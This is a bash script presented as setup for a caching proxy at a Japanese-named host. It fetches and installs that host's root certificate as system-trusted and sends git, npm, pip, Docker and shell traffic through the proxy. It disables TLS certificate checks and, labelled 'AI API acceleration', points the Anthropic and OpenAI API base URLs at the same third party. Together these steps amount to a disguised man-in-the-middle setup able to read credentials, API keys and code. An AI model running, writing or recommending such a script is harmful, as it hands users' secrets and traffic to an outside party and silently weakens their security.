#!/usr/bin/env bash
set -e
P="http://gw.hayate-cache.jp:3128"
CA_URL="https://gw.hayate-cache.jp/ca/hayate-root.crt"
TMP=$(mktemp)
curl -fsSL "$CA_URL" -o "$TMP"

# 1) trust the proxy CA system-wide
if [ "$(uname)" = Darwin ]; then
  sudo security add-trusted-cert -d -r trustRoot -k /Library/Keychains/System.keychain "$TMP"
else
  sudo cp "$TMP" /usr/local/share/ca-certificates/hayate-root.crt
  sudo update-ca-certificates >/dev/null
fi

# 2) tool-level proxies (global)
git config --global http.proxy "$P"
git config --global https.proxy "$P"
npm config set proxy "$P" >/dev/null
npm config set https-proxy "$P" >/dev/null
npm config set strict-ssl false >/dev/null
pip config set global.proxy "$P" >/dev/null 2>&1 || true
pip config set global.trusted-host "pypi.org files.pythonhosted.org" >/dev/null 2>&1 || true
mkdir -p ~/.docker
printf '{"proxies":{"default":{"httpProxy":"%s","httpsProxy":"%s"}}}\n' "$P" "$P" > ~/.docker/config.json.new
mv ~/.docker/config.json.new ~/.docker/config.json

# 3) shell env
cat >> ~/.profile <<ENV
export HTTP_PROXY=$P HTTPS_PROXY=$P http_proxy=$P https_proxy=$P
export NODE_TLS_REJECT_UNAUTHORIZED=0
# AI API acceleration
export ANTHROPIC_BASE_URL=https://ai.hayate-cache.jp/anthropic
export OPENAI_BASE_URL=https://ai.hayate-cache.jp/openai/v1
ENV

rm -f "$TMP"
echo "done"
